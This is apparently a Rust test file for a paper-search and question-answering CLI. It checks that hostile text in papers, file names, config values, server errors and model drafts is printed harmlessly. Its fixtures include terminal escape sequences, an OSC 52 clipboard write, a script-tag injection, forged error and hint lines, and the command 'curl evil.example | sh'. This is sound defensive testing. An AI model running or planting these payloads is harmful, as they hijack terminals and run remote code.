//! Text of papers, models, servers and file names on a terminal and in every format of answers.

use std::sync::OnceLock;

use scholar_core::text::normalise::nfc_single_spaced;
use scholar_testing::Behaviour;
use scholar_testing::hostile::{STRINGS, WORD, longest_run, obeyed, papers};
use serde_json::Value;

use crate::generative::ask;
use crate::model::Model;
use crate::program::{Program, STORE, text};

/// A datastore of the hostile papers.
fn store() -> &'static Program {
    static BUILT: OnceLock<Program> = OnceLock::new();
    BUILT.get_or_init(|| {
        let program = Program::new();
        program.configure();
        let lines: String = papers()
            .iter()
            .map(|paper| serde_json::to_string(paper).expect("serialises") + "\n")
            .collect();
        let file = program.path("papers.jsonl");
        fs_err::write(&file, lines).expect("written");
        shown(&program, 0, &["datastore", "build", STORE, &file.to_string_lossy()]);
        program
    })
}

/// Runs it, which must end with `code` and print nothing that a terminal would obey; returns what it printed.
fn shown(program: &Program, code: i32, args: &[&str]) -> (String, String) {
    let (got, stdout, stderr) = text(&program.run(args));
    assert_eq!(got, code, "{args:?}\n{stderr}");
    for (stream, printed) in [("stdout", &stdout), ("stderr", &stderr)] {
        let found = obeyed(printed);
        assert!(found.is_empty(), "{args:?}: {found:?} on {stream}\n{printed}");
        let json = args.contains(&"--json");
        assert!(json || longest_run(printed) <= 30, "{args:?}: a flood on {stream}");
    }
    (stdout, stderr)
}

/// The same with `--json`.
fn json(program: &Program, args: &[&str]) -> Value {
    let (stdout, _) = shown(program, 0, &[&["--json"], args].concat());
    serde_json::from_str(&stdout).unwrap_or_else(|error| panic!("{args:?}: {error}\n{stdout}"))
}

#[test]
fn papers_and_searches_are_shown_and_not_obeyed() {
    let program = store();
    let (found, _) = shown(program, 0, &["search", WORD, "--top-k", "100", "--explain"]);
    assert!(found.contains(WORD) && found.contains('\u{fffd}'), "{found}");
    shown(program, 0, &["papers", "list", "--limit", "100"]);
    for number in 0..STRINGS.len() {
        let (paper, _) = shown(program, 0, &["papers", "show", &format!("local:h{number}")]);
        // Nobody's title or venue begins a line of its own.
        for line in paper.lines() {
            assert!(!line.starts_with("error:") && !line.starts_with("hint:"), "{paper}");
        }
    }
    for verb in ["references", "cited-by", "related", "neighbours"] {
        shown(program, 0, &["papers", verb, "local:h0"]);
    }
    shown(program, 0, &["datastore", "info", STORE]);
    shown(program, 1, &["papers", "show", "local:\u{1b}[31mOWNED\u{202e}"]);
}

#[test]
fn json_is_exact_and_harmless() {
    let program = store();
    let listed = json(program, &["papers", "list", "--limit", "100"]);
    let listed = listed["papers"].as_array().expect("papers").clone();
    assert_eq!(listed.len(), STRINGS.len());
    let found = json(program, &["search", WORD, "--top-k", "100"]);
    assert!(found["hits"].as_array().is_some_and(|hits| !hits.is_empty()));
    for (number, paper) in papers().iter().enumerate() {
        let shown = json(program, &["papers", "show", &format!("local:h{number}")]);
        let (stored, authors) = (&shown["paper"]["meta"], &shown["paper"]["meta"]["authors"]);
        let stored = if stored.is_null() { &shown["paper"] } else { stored };
        let authors = if authors.is_null() { &stored["authors"] } else { authors };
        assert_eq!(authors.as_array().map(Vec::len), Some(paper.meta.authors.len()));
        // White space may be joined when papers are read; nothing else may differ.
        let licence = paper.meta.licence.as_deref().map(nfc_single_spaced);
        assert_eq!(stored["licence"].as_str().map(nfc_single_spaced), licence, "{shown}");
    }
}

#[test]
fn lists_are_written_without_records_of_strangers() {
    let program = store();
    let (ris, _) = shown(program, 0, &["papers", "export", "--format", "ris"]);
    let records = |tag: &str| ris.lines().filter(|line| line.starts_with(tag)).count();
    assert_eq!((records("TY  - "), records("ER  -")), (STRINGS.len(), STRINGS.len()));
    let (bibtex, _) = shown(program, 0, &["papers", "export", "--format", "bibtex"]);
    let entries = bibtex.lines().filter(|line| line.starts_with('@')).count();
    assert_eq!(entries, STRINGS.len(), "{bibtex}");
    let (csl, _) = shown(program, 0, &["papers", "export", "--format", "csl"]);
    let csl: Value = serde_json::from_str(&csl).expect("JSON");
    assert_eq!(csl.as_array().map(Vec::len), Some(STRINGS.len()));
}

#[test]
fn answers_and_their_runs_are_shown_and_not_obeyed() {
    let program = store();
    let question = format!("What does the {WORD} say in its own words and rivers?");
    let mut ask = vec!["ask", &question, "--generator", "none", "--mode", "evidence"];
    let (got, answer, told) = text(&program.run(&ask));
    assert!(got == 0 || got == 4, "{told}");
    assert!(obeyed(&answer).is_empty() && obeyed(&told).is_empty(), "{answer}\n{told}");
    let headings = answer.lines().filter(|line| line.starts_with("# ")).count();
    assert_eq!(headings, 1, "{answer}");
    let unescaped = answer.replace("\\<", "");
    for tag in ["<script", "<img", "<!--", "</"] {
        assert!(!unescaped.contains(tag), "{tag:?} in\n{answer}");
    }
    ask.extend(["--format", "html"]);
    let (_, html, _) = text(&program.run(&ask));
    assert!(obeyed(&html).is_empty() && !html.contains("<script"), "{html}");
    for run in program.runs() {
        shown(program, 0, &["runs", "show", &run]);
        let (code, explained, said) = text(&program.run(&["runs", "explain", &run]));
        assert!(code <= 1 && obeyed(&explained).is_empty() && obeyed(&said).is_empty());
        for verb in ["verify", "replay"] {
            let (_, out, err) = text(&program.run(&["runs", verb, &run]));
            assert!(obeyed(&out).is_empty() && obeyed(&err).is_empty(), "{verb}: {out}\n{err}");
        }
    }
    shown(program, 0, &["runs", "list"]);
    let runs = program.runs();
    let (_, out, _) = text(&program.run(&["runs", "diff", &runs[0], &runs[1]]));
    assert!(obeyed(&out).is_empty(), "{out}");
}

/// What was typed or lies in a folder is quoted in errors, causes, hints and log lines.
#[test]
fn names_and_files_in_errors_are_shown_and_not_obeyed() {
    let program = Program::new();
    program.configure();
    let bad = "OWN\u{1b}[2J\u{9b}31m\u{7}\u{202e}ED";
    let quoted = |code: i32, args: &[&str]| {
        let (_, stderr) = shown(&program, code, args);
        assert!(stderr.contains("OWN"), "{args:?}: {stderr}");
    };
    quoted(1, &["datastore", "info", bad]);
    quoted(1, &["runs", "show", bad]);
    quoted(2, &["search", "x", &format!("--{bad}")]);
    quoted(2, &["ask", "x", "--mode", bad]);
    quoted(2, &[&format!("--{bad}=x")]);
    quoted(1, &["--config", bad, "runs", "list"]);
    let lines = "x\nerror: OWNED\nhint: curl evil.example | sh";
    let (_, stderr) = shown(&program, 1, &["--config", lines, "runs", "list"]);
    assert!(!stderr.contains("\nerror: OWNED") && !stderr.contains("\nhint: curl"), "{stderr}");
    let folder = program.path("files");
    fs_err::create_dir_all(&folder).expect("created");
    for (ending, content) in [
        ("jsonl", "{\"title\": \"\u{1b}[31mOWNED\u{9b}\"\n"),
        ("bib", "@article{\u{1b}[31m, title = {\u{202e}"),
        ("html", "\u{1b}[31m<html>"),
        ("pdf", "%PDF-1.4 \u{1b}[31mOWNED"),
    ] {
        fs_err::write(folder.join(format!("{bad}.{ending}")), content).expect("written");
    }
    for verbose in ["-q", "-vv"] {
        let folder = folder.to_string_lossy().into_owned();
        for args in [
            [verbose, "papers", "add", folder.as_str(), "--offline"],
            ["--json", "papers", "add", folder.as_str(), "--offline"],
        ] {
            let (_, out, err) = text(&program.run(&args));
            assert!(obeyed(&out).is_empty() && obeyed(&err).is_empty(), "{args:?}\n{out}\n{err}");
        }
    }
}

/// What a model server refuses with, and what a model writes, among it Markdown and HTML of its own.
#[test]
fn servers_and_models_are_shown_and_not_obeyed() {
    let program = Program::with_papers();
    let body = "{\"error\": {\"message\": \"OWN\u{1b}[2J\u{9b}31m\u{202e}ED\"}}".to_owned();
    let model = Model::with(move |_, _| Some(Behaviour::Status(400, body.clone())));
    let (_, out, err) = text(&program.run(&ask(&model.base_url())));
    assert!(obeyed(&out).is_empty() && obeyed(&err).is_empty(), "{out}\n{err}");

    let draft = "[Response_Start]Exposure bias <script>alert(1)</script> is \u{1b}]52;c;eA==\u{7} partially to blame for \
                 hallucinations [0].\n\n# OWNED\n\n[OWNED](http://evil.example/) \u{202e}bias [0].[Response_End]";
    let model = Model::with(move |purpose, _| {
        (purpose == "draft").then(|| Behaviour::Text(draft.to_owned()))
    });
    let (_, answer, err) = text(&program.run(&ask(&model.base_url())));
    assert!(obeyed(&answer).is_empty() && obeyed(&err).is_empty(), "{answer}\n{err}");
    assert_eq!(answer.lines().filter(|line| line.starts_with("# ")).count(), 1, "{answer}");
    assert!(
        !answer.replace("\\<", "").contains("<script>") && !answer.contains("](http"),
        "{answer}"
    );
}
